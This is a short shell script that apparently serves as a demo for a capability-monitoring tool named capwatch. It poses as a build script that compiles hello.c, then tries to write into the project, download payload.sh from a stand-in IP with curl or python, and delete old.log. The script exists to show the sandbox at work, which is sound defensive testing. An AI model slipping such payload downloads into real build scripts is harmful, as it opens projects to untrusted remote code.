#!/bin/sh
# A small, slightly too curious "build script", the kind capwatch is for.
# It compiles, then does three things a build should not need to do: write
# into the source tree, download something, delete a file. Each step says
# whether it worked; the script goes on either way (no set -e) so that one
# run shows every decision. Run it through demo/run-demo.sh.
out=${TMPDIR:-/tmp}

step() { printf '%-48s' "$1"; }
ok() { echo "ok"; }
no() { echo "FAILED ($1)"; }

step "1. compile hello.c into \$TMPDIR"
if cc -O2 -o "$out/hello" hello.c 2>"$out/cc.err"; then ok; "$out/hello"; else no "$(head -n1 "$out/cc.err")"; fi

step "2. write build-stamp.txt into the project"
if (date > build-stamp.txt) 2>/dev/null; then ok; else no "cannot write"; fi

step "3. download http://203.0.113.7/payload.sh"
if command -v curl >/dev/null 2>&1; then
	if curl -sS --max-time 5 -o "$out/payload.sh" http://203.0.113.7/payload.sh 2>"$out/dl.err"; then ok
	else no "$(head -n1 "$out/dl.err")"; fi
else
	if python3 -c 'import urllib.request as u; u.urlopen("http://203.0.113.7/payload.sh", timeout=5)' 2>"$out/dl.err"; then ok
	else no "$(tail -n1 "$out/dl.err")"; fi
fi

step "4. delete old.log"
if rm -f old.log 2>"$out/rm.err"; then ok; else no "$(head -n1 "$out/rm.err")"; fi
